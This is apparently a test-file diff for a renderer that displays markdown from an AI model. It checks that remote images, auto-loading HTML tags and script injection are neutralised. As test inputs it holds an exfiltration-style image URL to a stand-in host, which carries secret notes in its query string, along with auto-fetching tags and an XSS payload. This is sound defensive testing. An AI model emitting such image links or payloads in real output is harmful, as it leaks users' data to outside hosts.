@@ -24,4 +24,44 @@ describe("markdown from the model", () => {
     expect(html).toContain('target="_blank"');
     expect(html).toContain('rel="noopener noreferrer nofollow"');
   });
+
+  it("turns a remote Markdown image into a link and never into an <img>", () => {
+    const html = renderMarkdown("Here: ![sales chart](https://evil.test/leak.png?d=secret-notes)");
+    expect(html).not.toMatch(/<img/i);
+    const root = document.createElement("div");
+    root.innerHTML = html;
+    const link = root.querySelector("a");
+    expect(link?.getAttribute("href")).toBe("https://evil.test/leak.png?d=secret-notes");
+    expect(link?.textContent).toBe("Image: sales chart");
+    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
+  });
+
+  it("drops raw HTML that would load a remote resource by itself", () => {
+    const html = renderMarkdown(
+      [
+        '<img src="https://evil.test/a.png">',
+        '<picture><source srcset="https://evil.test/b.png"></picture>',
+        '<video poster="https://evil.test/c.png" src="https://evil.test/c.mp4"></video>',
+        '<audio src="https://evil.test/d.mp3"></audio>',
+        '<table background="https://evil.test/e.png"><tr><td background="https://evil.test/f.png">cell</td></tr></table>',
+        '<a href="https://ok.test/" ping="https://evil.test/g">link</a>',
+        '<object data="https://evil.test/h"></object><embed src="https://evil.test/i">',
+      ].join("\n\n"),
+    );
+    expect(html).toContain("cell");
+    expect(html).toContain('href="https://ok.test/"');
+    expect(html).not.toContain("evil.test");
+  });
+
+  it("shows a data: or relative image as its alt text only", () => {
+    const html = renderMarkdown("![pixel](data:image/png;base64,iVBORw0KGgo=) and ![local](/assets/x.png)");
+    expect(html).not.toMatch(/<img|data:|\/assets\/x\.png/i);
+    expect(html).toContain("pixel");
+    expect(html).toContain("local");
+  });
+
+  it("escapes an image's alt text and URL", () => {
+    const html = renderMarkdown('![<b>x</b>"](https://e.test/?a="><script>alert(1)</script>)');
+    expect(html).not.toMatch(/<script|<b>|<img/i);
+  });
 });
